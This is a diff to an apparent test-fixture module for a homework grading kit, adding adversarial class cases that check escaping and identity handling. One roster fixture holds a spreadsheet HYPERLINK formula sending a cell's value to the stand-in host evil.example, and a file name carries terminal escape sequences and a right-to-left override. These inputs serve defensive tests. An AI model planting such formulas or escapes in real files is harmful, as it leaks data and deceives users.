@@ -1745,15 +1745,18 @@ class ClassAttack:
     ``files`` maps each download name to its ``game.py`` (zipped when the name ends in .zip);
     ``rows`` is each student's exact score in grades.csv, ``graded`` the file each was graded
     on (grades.csv's ``source``), ``warning`` the sentence summary.md's Warnings must hold and
-    ``imported`` the score each roster row gets in canvas_import.csv.
+    ``imported`` the score each roster row gets in canvas_import.csv. In every class, no cell
+    of a CSV the kit writes starts a formula.
     """
 
     files: dict[str, str]
     rows: dict[str, float]
     graded: dict[str, str]
-    warning: str
+    warning: str | None  # None: the class needs no warning
     roster: str | None = None
     imported: dict[str, str] | None = None
+    never: tuple[str, ...] = ()  # raw text that must reach no output file nor the terminal
+    similarity: bool = False  # graded with --similarity: every page the index links is there
 
 
 _STARTER = STARTERS["teeko"].read_text()
@@ -1786,5 +1789,61 @@ CLASS_ATTACKS: dict[str, ClassAttack] = {
         "login for 10009 is jdoe: graded as jdoe",
         roster=_GRADEBOOK,
         imported={"asmith@wisc.edu": "100", "jdoe@wisc.edu": "50"},
+    ),
+    # Names that a cleaned-up alphabet would make one: each is a row of its own, shown whole.
+    "names-alike-once-cleaned-up": ClassAttack(
+        {
+            "jo!.py": HONEST,
+            "jo?.py": _STARTER,
+            "王伟.py": HONEST,
+            "李娜.py": _STARTER,
+            "Zoë Ñúñez hw8 (1).py": HONEST,
+        },
+        {"jo!": 100, "jo?": 50, "王伟": 100, "李娜": 50, "Zoë Ñúñez hw8 (1)": 100},
+        {
+            "jo!": "jo!.py",
+            "jo?": "jo?.py",
+            "王伟": "王伟.py",
+            "李娜": "李娜.py",
+            "Zoë Ñúñez hw8 (1)": "Zoë Ñúñez hw8 (1).py",
+        },
+        None,
+    ),
+    # A login typed in a file name beside a Canvas id, no roster: the row is the Canvas user's,
+    # and the claim is said.
+    "a-login-claimed-without-a-roster": ClassAttack(
+        {"patelpriya_10006_500006_hw8_ppatel.zip": HONEST},
+        {"10006": 100},
+        {"10006": "patelpriya_10006_500006_hw8_ppatel.zip"},
+        "identity: 1 file names claim a netid (10006 claims ppatel); a name typed in a file "
+        "proves nothing, so each row is named by its Canvas user id: give --roster (the Canvas "
+        "gradebook export) to name the rows by login",
+    ),
+    # Terminal escapes, a bell and a right-to-left override in the name of a file handed in
+    # beside game.py; a roster name that is a spreadsheet formula. Shown escaped, never live.
+    "escapes-in-names-and-a-formula-in-the-roster": ClassAttack(
+        {
+            "smithann_10006_501_game.py": HONEST,
+            "smithann_10006_502_notes\x1b]0;pwned\x07\u202etxt.md": "notes\n",
+        },
+        {"asmith": 100},
+        {"asmith": "smithann_10006_501_game.py"},
+        None,
+        roster=(
+            "Student,ID,SIS User ID,SIS Login ID,Section,HW8 (1001)\n"
+            "    Points Possible,,,,,100\n"
+            '"=HYPERLINK(""http://evil.example/?""&C3,""Smith"")",10006,9006,asmith,LEC 001,\n'
+        ),
+        imported={"asmith": "100"},
+        never=("\x1b", "\x07", "\u202e"),
+    ),
+    # Two long names (80 Chinese characters each, 240 bytes) in one flagged pair: the pair's
+    # page gets a name a file system takes, and the index links only pages that exist.
+    "two-long-names-in-a-flagged-pair": ClassAttack(
+        {f"{'王' * 80}.py": HONEST, f"{'李' * 80}.py": HONEST},
+        {"王" * 80: 100, "李" * 80: 100},
+        {"王" * 80: f"{'王' * 80}.py", "李" * 80: f"{'李' * 80}.py"},
+        None,
+        similarity=True,
     ),
 }
